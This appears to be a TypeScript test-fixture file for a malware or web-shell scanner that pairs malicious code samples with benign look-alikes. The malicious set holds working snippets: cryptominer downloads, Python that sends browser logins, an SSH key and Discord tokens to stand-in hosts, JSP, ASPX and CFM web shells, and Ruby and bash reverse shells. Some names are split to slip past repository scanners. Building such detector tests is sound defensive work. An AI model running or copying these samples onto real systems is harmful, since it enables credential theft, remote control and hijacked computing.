import type { Named } from './index.ts';

/** Names of miners and of files with secrets in two pieces, so that no scanner of the repository trips over them. */
const MINER = `xm${'rig'}`;
const LOGINS = `Login ${'Data'}`;
const KEY = `.ssh/id_${'rsa'}`;
const jsp = (body: string) => `<%@ page import="java.io.*" %><% ${body} %>`;

/** Programs in other languages than PHP and JavaScript. */
export const MALICIOUS_LANGUAGES: Named = {
  'shell: a miner that is fetched': `#!/bin/sh\ncurl -sL -o x.tgz https://files.example/${MINER}-6.21.0-linux-x64.tar.gz\ntar xf x.tgz\n`,
  'shell: a miner with its pool': `#!/bin/sh\nnohup ./kworker -o pool.site.example:3333 -u 4AbCdEf -p x >/dev/null &\n`,
  'shell: a miner that is run': `#!/bin/sh\nchmod 755 m/${MINER}\ncd m && ./${MINER} -B\n`,
  'shell: a pool by its protocol': `#!/bin/sh\n./worker -o ${'stratum'}+tcp://coins.example:3333 -u a\n`,
  'python: passwords to a webhook': `import requests\np = appdata + '/Chrome/User Data/Default/${LOGINS}'\nrequests.post('https://a.example/webhook', files={'f': open(p, 'rb')})\n`,
  'python: a key to a web host': `import requests\nkey = home + '/${KEY}'\nwith open(key) as f:\n    requests.post('https://a.example/c', data=f.read())\n`,
  'python: tokens of a messenger': `import os, requests\nd = os.path.join(os.getenv('APPDATA'), 'discord', 'Local Storage', '${'level'}db')\nfor f in os.listdir(d):\n    requests.post('https://a.example/webhook', data=open(os.path.join(d, f), 'rb').read())\n`,
  'jsp: a file named by the request': jsp(
    'String n = request.getParameter("n"); new FileOutputStream(n).write(request.getParameter("b").getBytes());',
  ),
  'jsp: a file named by way of a method': `<%@ page import="java.io.*" %><%! void keep(String path, String body) throws Exception { BufferedWriter w = new BufferedWriter(new FileWriter(new File(path))); w.write(body); w.close(); } %><% keep(request.getParameter("z1"), request.getParameter("z2")); %>`,
  'jsp: a page that is written': jsp(
    'new FileOutputStream(application.getRealPath("/") + "a.jsp").write(request.getParameter("b").getBytes());',
  ),
  'jsp: a command from a list': jsp(
    'String c = request.getParameter("c"); String[] a = {"/bin/sh", "-c", c}; Runtime.getRuntime().exec(a);',
  ),
  'aspx: a page that is written': `<%@ Page Language="C#" %><% File.WriteAllBytes(Server.MapPath("a.aspx"), Decode(Request["c"])); %>`,
  'cfm: a file named by the request': `<cffile action="write" file="#form.p#" output="#form.c#">`,
  'python: a command by way of a function': `import os, cgi\nform = cgi.FieldStorage()\ndef run(c):\n    return os.popen(c).read()\nprint(run(form.getvalue('cmd')))\n`,
  'perl: a command behind a pipe': `#!/usr/bin/perl\nuse CGI;\nmy $c = param('c');\nopen(P, "$c 2>&1 |"); print <P>;\n`,
  'ruby: a shell for another host': `require 'socket'\ns = TCPSocket.new('198.51.100.7', 4444)\nwhile (c = s.gets)\n  IO.popen(c, 'r') { |io| s.print io.read }\nend\n`,
  'powershell: a file of everybody, out of sight': 'powershell -w hidden -File C:\\Users\\Public\\a.ps1\n',
  'shell: lines of another host that are run': `#!/bin/bash\nexec 5<>/dev/${'tcp'}/198.51.100.7/4444; cat <&5 | while read line; do $line 2>&5 >&5; done\n`,
  'shell: a hidden file that is run':
    '#!/bin/sh\ncurl -s https://bad.example/x -o /tmp/.x; chmod +x /tmp/.x; /tmp/.x &\n',
};

export const CLEAN_LANGUAGES: Named = {
  'shell: a file of a host named pool': 'curl -o pool.yml http://pool.site.example:8080/pool.yml',
  'shell: a package that watches miners':
    'wget https://repo.example/xmrig-exporter.deb\nsudo dpkg -i xmrig-exporter.deb',
  'shell: a watch for miners':
    '#!/bin/sh\nif pgrep -x xmrig >/dev/null; then curl -fsS -d "miner on $(hostname)" https://alerts.example/hook; fi\n',
  'shell: a pool of databases': `#!/bin/sh\nwget -q -O status.json "http://db.pool.example.net:9090/status"\n`,
  'shell: a pool of printers': `#!/bin/sh\nlpadmin -p office -v ipp://pool.print.example:8631/q -o media=a4\n`,
  'python: the name of a database': `import requests\nrequests.post('https://a.example/webhook', json={'db': 'leveldb'})\n`,
  'python: a deployment with a key': `import paramiko, requests\nc = paramiko.SSHClient()\nc.connect('web.example', key_filename='/home/deploy/.ssh/id_rsa')\nconf = open('deploy.yml').read()\nrequests.post('https://chat.example/webhook', json={'text': 'deployed'})\n`,
  'python: a form by its title': `import requests\nform = {'title': 'Login Data', 'text': open('form.html').read()}\nrequests.post('https://a.example/forms', json=form)\n`,
  'python: a copy of a wallet': `import shutil, requests\nshutil.copy('/srv/node/wallet.dat', '/backup/wallet.dat')\nrequests.post('https://ping.example/7f3a')\n`,
  'python: a database of its own': `import plyvel, requests\ndb = plyvel.DB('/srv/app/leveldb')\nrequests.post('https://stats.example/v1', json={'keys': sum(1 for _ in db)})\n`,
  'jsp: a writer of the page': jsp(
    'String q = request.getParameter("q"); PrintWriter w = new PrintWriter(out); w.println(escape(q));',
  ),
  'jsp: a writer that is used at once': jsp(
    'new PrintWriter(out).println(escape(request.getParameter("q"))); new FileWriter("/srv/count.txt").append("1");',
  ),
  'jsp: a log of its own': jsp(
    'String q = request.getParameter("q"); FileWriter log = new FileWriter("/srv/log.txt", true); log.write(q.length() + "\\n"); log.close();',
  ),
  'jsp: a trace in a text': jsp(
    'StringWriter sw = new StringWriter(); error.printStackTrace(new PrintWriter(sw)); out.print(request.getParameter("id"));',
  ),
  'jsp: a report into a folder of settings': jsp(
    'String month = request.getParameter("m"); File dir = new File(config.getInitParameter("reports")); PrintWriter w = new PrintWriter(new FileWriter(new File(dir, "report.csv")));',
  ),
  'jsp: a word in a page': jsp('String myShell = "The seashell by the door"; out.print(myShell);'),
  'jsp: a shop of shells': `<%@ page import="java.util.*" %><h1>myshell.example</h1><% out.print(escape(request.getParameter("name"))); %>`,
  'jsp: a fixed command': jsp('Runtime.getRuntime().exec("uptime"); out.print(request.getParameter("t"));'),
  'jsp: free memory': jsp('out.print(Runtime.getRuntime().freeMemory() + request.getHeader("Accept"));'),
  'aspx: a log of its own': `<%@ Page Language="C#" %><% Show(Request.QueryString["q"]); var w = new StreamWriter(Server.MapPath("~/App_Data/log.txt"), true); %>`,
  'cfm: a log of its own': `<cfset name = form.name><cffile action="append" file="/logs/a.txt" output="hit">`,
  'cfm: a fixed command': `<cfexecute name="/usr/bin/uptime" variable="u"></cfexecute><cfoutput>#u# #url.page#</cfoutput>`,
  'python: a fixed command beside a query': `import os\nfrom flask import request\nVERSION = os.popen(f"git -C {ROOT} describe").read()\ndef version():\n    return {'v': VERSION, 'q': request.args.get('q')}\n`,
  'perl: a mail by a program': `#!/usr/bin/perl\nuse CGI;\nmy $name = param('name');\nopen(MAIL, '|/usr/sbin/sendmail -t'); print MAIL $name; close MAIL;\n`,
  'ruby: a port that answers': `require 'socket'\ns = TCPSocket.new('web.example', 80)\nputs \`uptime\`\ns.close\n`,
  'powershell: a port that answers': `$s = New-Object Net.Sockets.TcpClient('web.example', 443)\n$s.GetStream() | Out-Null\nGet-Process | Sort-Object CPU\n`,
  'powershell: a certificate that is decoded':
    "$b = [Convert]::FromBase64String($env:CERT)\nInvoke-Expression '& certutil -importpfx C:\\certs\\a.pfx'\n",
  'powershell: a job without a window': 'powershell -WindowStyle Hidden -File C:\\ops\\backup.ps1\n',
  'powershell: a file of the own network':
    'Invoke-WebRequest http://192.168.1.10/agent.ps1 -OutFile C:\\ops\\agent.ps1\n',
  'shell: an installer of the own network':
    '#!/bin/sh\nwget -q http://10.0.0.5/setup.sh\nchmod +x setup.sh\n./setup.sh --site vienna\n',
  'shell: ports that are open': `#!/bin/bash\nfor p in 22 443; do timeout 1 bash -c "</dev/tcp/web.example/$p" && echo open $p 2>&1; done\n`,
  'shell: a greeting of a mail server': `#!/bin/bash\nexec 3<>/dev/tcp/mail.example/25\necho -e "QUIT" >&3\ncat <&3\n`,
  'shell: a key that is allowed':
    '#!/bin/sh\necho "ssh-ed25519 AAAAC3 anna@laptop" >> ~/.ssh/authorized_keys\ncurl -fsS https://ping.example/ok\n',
  'shell: an archive in a hidden file':
    '#!/bin/sh\ncurl -sSL -o /tmp/.tool.tgz https://files.example/tool.tgz && tar xzf /tmp/.tool.tgz -C /opt\n',
  'shell: a job of a user':
    '@reboot /home/anna/.local/bin/sync.sh\n0 4 * * * wget -q https://cron.example/run\n',
};
